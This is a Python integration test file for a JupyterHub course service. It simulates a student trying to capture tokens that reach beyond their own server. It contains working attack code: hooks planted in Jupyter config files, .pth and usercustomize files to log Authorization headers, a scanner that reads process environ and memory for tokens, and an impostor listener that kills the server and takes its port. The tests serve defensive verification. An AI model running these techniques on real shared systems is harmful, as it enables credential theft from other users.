"""A student tries to catch a credential that opens more than their own server.

Everything that reaches a student's course server is theirs to read: the headers of
every request (the kernel census and "stop kernel" of the staff servers page ask their
server for its kernels) and the memory and environment of every process running
under their uid. Three attacks, each against a hub whose servers are forked from the
template (the default) and one whose servers start cold:

- the student drops code that records every request's headers into each place a
  Jupyter server or Python used to load from their home (`~/.jupyter`, `~/.local/etc`,
  a `.pth` file and `usercustomize` in their user site, an extension enabled from a
  `jupyter_server_config.d` file and importable from the user site or the course
  workspace), restarts their server, and waits for the census and for a staff member
  to stop one of their kernels;
- the student reads `/proc/<pid>/environ` and `/proc/<pid>/mem` of every process their
  uid owns (the server, forked from a root template, and the kernels);
- the student kills their server and answers on its port themselves, as a server
  would, recording every request: this needs no code in the server at all.

Every token found is tried on the hub API (list users), on another student's server
and on a staff-only API of the coursehub service: each must fail.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest

from tests.helpers import hubproc
from tests.helpers.browserless import login, start_server
from tests.helpers.gitrepo import EMPTY_NOTEBOOK
from tests.helpers.kernel import run_code

pytestmark = [pytest.mark.integration, pytest.mark.root]

USERS = {"alice": "alice-pass-123", "bob": "bob-pass-456", "ines": "ines-pass-789"}
STAFF = {"ines": "instructor"}
COURSE = "intro"
SERVICE = "/services/coursehub"
CAPTURES = ".captured-requests"  # in the student's home: one JSON line per request seen

# Records every HTTP request the process serves (tornado parses each into one
# HTTPServerRequest): the headers that carry tokens, and which trick got it there.
HOOK = """
import json as _json, os as _os, sys as _sys
def _install(variant):
    from tornado import httputil
    original = httputil.HTTPServerRequest.__init__
    def capture(self, *args, **kwargs):
        original(self, *args, **kwargs)
        try:
            record = {{
                "variant": variant,
                "pid": _os.getpid(),
                "uri": self.uri,
                "authorization": self.headers.get("Authorization", ""),
            }}
            with open({captures!r}, "a") as out:
                out.write(_json.dumps(record) + "\\n")
        except Exception:
            pass
    httputil.HTTPServerRequest.__init__ = capture
"""

EXTENSION = """
def _jupyter_server_extension_points():
    return [{"module": "capture_ext"}]
def _load_jupyter_server_extension(app):
    _install("server extension")
"""

WRITE_ATTACK = """
import json, os, sys
home = os.path.expanduser("~")
hook = {hook!r}
site = os.path.join(home, ".local", "lib", f"python{{sys.version_info[0]}}.{{sys.version_info[1]}}",
                    "site-packages")
workspace = os.getcwd()

def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as out:
        out.write(text)

config = hook + "\\n_install(VARIANT)\\n"
write(f"{{home}}/.jupyter/jupyter_server_config.py", config.replace('VARIANT', repr("~/.jupyter")))
write(f"{{home}}/.jupyter/jupyter_config.py", config.replace('VARIANT', repr("jupyter_config.py")))
write(f"{{home}}/.local/etc/jupyter/jupyter_server_config.py",
      config.replace('VARIANT', repr("~/.local/etc/jupyter")))
write(f"{{site}}/capture_hook.py", hook)
write(f"{{site}}/capture.pth",
      "import capture_hook; capture_hook._install('.pth in the user site')\\n")
write(f"{{site}}/usercustomize.py",
      "import capture_hook; capture_hook._install('usercustomize')\\n")
extension = hook + {extension!r}
write(f"{{site}}/capture_ext.py", extension)
write(f"{{workspace}}/capture_ext.py", extension)
write(f"{{home}}/.jupyter/jupyter_server_config.d/capture.json",
      json.dumps({{"ServerApp": {{"jpserver_extensions": {{"capture_ext": True}}}}}}))
print("written")
"""

SCAN_MEMORY = r"""
import os, re
TOKEN = re.compile(rb"(?<![0-9a-f])(?:[0-9a-f]{32}){1,2}(?![0-9a-f])")
me, found, seen = os.getpid(), set(), {}
# our own environment too (this kernel's, as the server gave it)
found.update(TOKEN.findall(open("/proc/self/environ", "rb").read()))
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == me:
        continue
    try:
        if os.stat(f"/proc/{entry}").st_uid != os.getuid():
            continue
        cmdline = open(f"/proc/{entry}/cmdline", "rb").read().replace(b"\0", b" ")[:120]
    except OSError:
        continue
    report = seen.setdefault(entry, {"cmd": cmdline.decode(errors="replace")})
    try:
        found.update(TOKEN.findall(open(f"/proc/{entry}/environ", "rb").read()))
        report["environ"] = "read"
    except OSError as exc:
        report["environ"] = type(exc).__name__
    try:
        maps = open(f"/proc/{entry}/maps").read().splitlines()
        with open(f"/proc/{entry}/mem", "rb", buffering=0) as mem:
            size = 0
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("r") or "[vvar]" in line or "[vsyscall]" in line:
                    continue
                start, end = (int(x, 16) for x in span.split("-"))
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except OSError:
                    continue
                size += len(data)
                found.update(TOKEN.findall(data))
        report["mem"] = f"{size} bytes"
    except OSError as exc:
        report["mem"] = type(exc).__name__
out = os.path.expanduser("~/.found-tokens")
with open(out, "w") as f:
    f.write("\n".join(sorted(t.decode() for t in found)))
print(len(found), "candidates")
print(seen)
"""


@pytest.fixture(scope="module", params=["forked", "cold"])
def hub(
    request: pytest.FixtureRequest,
    start_hub: Callable[..., hubproc.RunningHub],
    make_course_repo: Callable[..., Path],
) -> hubproc.RunningHub:
    repo = make_course_repo({"intro.ipynb": EMPTY_NOTEBOOK, "course.yaml": "title: Intro\n"})
    return start_hub(
        f"server-credentials-{request.param}",
        outside_tmp=True,
        users=USERS,
        roles=STAFF,
        extra_yaml=f"servers:\n  start: {request.param}\nstats:\n  sample_every: 1s\n",
        courses={COURSE: hubproc.Course(repo, ("alice", "bob"), STAFF)},
    )


def _server_url(hub: hubproc.RunningHub, user: str) -> str:
    return f"{hub.url}/user/{user}/{COURSE}/"


def _home(hub: hubproc.RunningHub, user: str) -> Path:
    return hub.home_root / hub.unix_name(user)


def _ensure_server(hub: hubproc.RunningHub, user: str) -> None:
    client = login(hub.url, user, USERS[user])
    events = start_server(client, user, server=COURSE)
    assert events and events[-1].get("ready"), f"{events}\n{hub.log_tail()}"


def _restart_server(hub: hubproc.RunningHub, user: str, token: str) -> None:
    """What a student does from the hub's home page: stop their server, start it."""
    _stop_server(hub, user, token)
    _ensure_server(hub, user)


def _stop_server(hub: hubproc.RunningHub, user: str, token: str) -> None:
    api = f"{hub.url}/hub/api/users/{user}/servers/{COURSE}"
    auth = {"Authorization": f"token {token}"}
    assert httpx.delete(api, headers=auth, timeout=60).status_code in (202, 204)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        model = httpx.get(f"{hub.url}/hub/api/users/{user}", headers=auth, timeout=30).json()
        if COURSE not in (model.get("servers") or {}):
            break
        time.sleep(0.3)


def _xsrf(page: str) -> str:
    found = re.search(r'name="coursehub-xsrf" content="([^"]+)"', page)
    assert found, page[-2000:]
    return found.group(1)


def _staff_stop_a_kernel(hub: hubproc.RunningHub, user: str, token: str) -> None:
    """The student leaves a kernel running; the instructor sees it on the servers page
    (which asks the student's server for its kernels, as the census does) and stops it."""
    made = httpx.post(
        f"{_server_url(hub, user)}api/kernels",
        json={"name": "python3"},
        headers={"Authorization": f"token {token}"},
        timeout=60,
    )
    made.raise_for_status()
    kernel = made.json()["id"]
    ines = login(hub.url, "ines", USERS["ines"])
    url = f"{SERVICE}/course/{COURSE}/staff/servers"
    deadline = time.monotonic() + 60
    while True:
        page = ines.get(url, follow_redirects=True)
        assert page.status_code == 200, page.text[-500:]
        if kernel in page.text:
            break
        assert time.monotonic() < deadline, f"{page.text[-3000:]}\n{hub.log_tail()}"
        time.sleep(1)
    stopped = ines.post(f"{url}/{user}/kernels/{kernel}/stop", data={"_xsrf": _xsrf(page.text)})
    assert stopped.status_code == 303, stopped.text
    assert "done=kernel" in stopped.headers["location"]


def _powers(hub: hubproc.RunningHub, token: str) -> list[str]:
    """What `token` opens beyond alice's own server."""
    auth = {"Authorization": f"token {token}"}
    opened = []
    if httpx.get(f"{hub.url}/hub/api/users", headers=auth, timeout=30).status_code == 200:
        opened.append("lists the hub's users")
    bob = httpx.get(f"{_server_url(hub, 'bob')}api/kernels", headers=auth, timeout=30)
    if bob.status_code == 200:
        opened.append("reaches bob's server")
    events = httpx.get(f"{hub.url}{SERVICE}/api/events?course={COURSE}", headers=auth, timeout=30)
    if events.status_code == 200:
        opened.append("reads the course's events (staff only)")
    return opened


def _valid(hub: hubproc.RunningHub, token: str) -> bool:
    auth = {"Authorization": f"token {token}"}
    response = httpx.get(f"{hub.url}/hub/api/user", headers=auth, timeout=30)
    return response.status_code == 200


def test_code_from_the_students_home_never_sees_a_token_beyond_their_server(
    hub: hubproc.RunningHub,
) -> None:
    _ensure_server(hub, "bob")
    _ensure_server(hub, "alice")
    alice = hub.user_token("alice")
    attack = WRITE_ATTACK.format(
        hook=HOOK.format(captures=str(_home(hub, "alice") / CAPTURES)), extension=EXTENSION
    )
    out = run_code(_server_url(hub, "alice"), alice, attack)
    assert "written" in out["stdout"], out
    _restart_server(hub, "alice", alice)
    _staff_stop_a_kernel(hub, "alice", alice)

    captures = _home(hub, "alice") / CAPTURES
    records = (
        [json.loads(line) for line in captures.read_text().splitlines()]
        if (captures.exists())
        else []
    )
    tokens = {r["authorization"].split()[-1] for r in records if r["authorization"]}
    ran = sorted({r["variant"] for r in records})
    leaked = {t[:6]: _powers(hub, t) for t in tokens}
    assert not any(leaked.values()), f"captured by {ran}: {leaked}"
    # and nothing the student wrote ran in their server at all
    assert ran == []


def test_tokens_in_the_memory_of_the_students_processes_open_only_their_server(
    hub: hubproc.RunningHub,
) -> None:
    _ensure_server(hub, "bob")
    _ensure_server(hub, "alice")
    alice = hub.user_token("alice")
    _staff_stop_a_kernel(hub, "alice", alice)  # the service's requests reached the server
    out = run_code(_server_url(hub, "alice"), alice, SCAN_MEMORY, timeout=180)
    assert out["error"] is None, out
    found = (_home(hub, "alice") / ".found-tokens").read_text().split()
    valid = [t for t in found if _valid(hub, t)]
    assert valid, out  # the attack was made: the server's own token at least
    leaked = {t[:6]: _powers(hub, t) for t in valid}
    assert not any(leaked.values()), (leaked, out["stdout"][-3000:])


def test_the_students_own_settings_notebooks_and_kernel_start_up_still_work(
    hub: hubproc.RunningHub,
) -> None:
    """What stays the student's: JupyterLab settings, saving notebooks, and their own
    kernel (a kernel is their process; `~/.ipython` start-up files run there)."""
    _ensure_server(hub, "alice")
    alice = hub.user_token("alice")
    auth = {"Authorization": f"token {alice}"}
    server = _server_url(hub, "alice")
    startup = "import os\nos.environ['STARTED_FROM'] = 'ipython startup'\n"
    code = (
        "import os\n"
        "d = os.path.expanduser('~/.ipython/profile_default/startup')\n"
        "os.makedirs(d, exist_ok=True)\n"
        f"open(os.path.join(d, '00-mine.py'), 'w').write({startup!r})\n"
    )
    assert run_code(server, alice, code)["error"] is None
    out = run_code(server, alice, "import os; print(os.environ.get('STARTED_FROM'))")
    assert out["stdout"].strip() == "ipython startup", out

    theme = "@jupyterlab/apputils-extension:themes"
    saved = httpx.put(
        f"{server}lab/api/settings/{theme}",
        headers=auth,
        json={"raw": '{"theme": "JupyterLab Dark"}'},
        timeout=30,
    )
    assert saved.status_code == 204, saved.text
    settings = _home(hub, "alice") / ".jupyter" / "lab" / "user-settings"
    assert (
        "JupyterLab Dark"
        in (
            settings / "@jupyterlab" / "apputils-extension" / "themes.jupyterlab-settings"
        ).read_text()
    )
    notebook = json.loads(EMPTY_NOTEBOOK)
    put = httpx.put(
        f"{server}api/contents/mine.ipynb",
        headers=auth,
        json={"type": "notebook", "format": "json", "content": notebook},
        timeout=30,
    )
    assert put.status_code in (200, 201), put.text


# The student's listener: it takes over the server's port and answers as a server would,
# recording the headers of every request the proxy sends it.
IMPOSTOR = r"""
import json, os, signal, socket, sys, time
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlsplit

port = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
server_pid = int(os.environ["JPY_PARENT_PID"])
captures = sys.argv[1]
time.sleep(1)  # the kernel's answer reaches the test first
os.kill(server_pid, signal.SIGKILL)

class Handler(BaseHTTPRequestHandler):
    def _answer(self, code, body=b""):
        with open(captures, "a") as out:
            record = {"variant": "impostor", "uri": self.path,
                      "authorization": self.headers.get("Authorization", "")}
            out.write(json.dumps(record) + "\n")
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        kernel = {"id": "impostor-kernel", "name": "python3", "execution_state": "busy",
                  "last_activity": "2026-01-01T00:00:00Z", "connections": 1}
        answer = [kernel] if self.path.endswith("/api/kernels") else {}
        self._answer(200, json.dumps(answer).encode())
    def do_DELETE(self):
        self._answer(204)
    def log_message(self, *args):
        pass

class Server(HTTPServer):
    allow_reuse_address = True

deadline = time.monotonic() + 10
while True:
    try:
        httpd = Server(("127.0.0.1", port), Handler)
        break
    except OSError:
        if time.monotonic() > deadline:
            raise
        time.sleep(0.01)
httpd.timeout = 1
end = time.monotonic() + 120
while time.monotonic() < end:
    httpd.handle_request()
"""

LAUNCH_IMPOSTOR = """
import os, subprocess, sys
script = os.path.expanduser("~/impostor.py")
with open(script, "w") as f:
    f.write({impostor!r})
subprocess.Popen([sys.executable, script, {captures!r}], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("launched")
"""


def test_a_listener_in_place_of_the_students_server_gets_no_token_beyond_it(
    hub: hubproc.RunningHub,
) -> None:
    _ensure_server(hub, "bob")
    _ensure_server(hub, "alice")
    alice = hub.user_token("alice")
    captures = _home(hub, "alice") / ".impostor-requests"
    launch = LAUNCH_IMPOSTOR.format(impostor=IMPOSTOR, captures=str(captures))
    out = run_code(_server_url(hub, "alice"), alice, launch)
    assert "launched" in out["stdout"], out
    # the listener answers for alice's server: the census finds its kernel, and the
    # instructor stops it from the servers page
    ines = login(hub.url, "ines", USERS["ines"])
    url = f"{SERVICE}/course/{COURSE}/staff/servers"
    deadline = time.monotonic() + 60
    while "impostor-kernel" not in (page := ines.get(url, follow_redirects=True)).text:
        assert time.monotonic() < deadline, f"{page.text[-3000:]}\n{hub.log_tail()}"
        time.sleep(0.5)
    stopped = ines.post(
        f"{url}/alice/kernels/impostor-kernel/stop", data={"_xsrf": _xsrf(page.text)}
    )
    assert stopped.status_code == 303, stopped.text
    _stop_server(hub, "alice", alice)  # the hub forgets the server the listener replaced
    records = [json.loads(line) for line in captures.read_text().splitlines()]
    tokens = {r["authorization"].split()[-1] for r in records if r["authorization"]}
    assert tokens, records  # the attack was made: the service's requests came to it
    leaked = {t[:6]: _powers(hub, t) for t in tokens}
    assert not any(leaked.values()), leaked
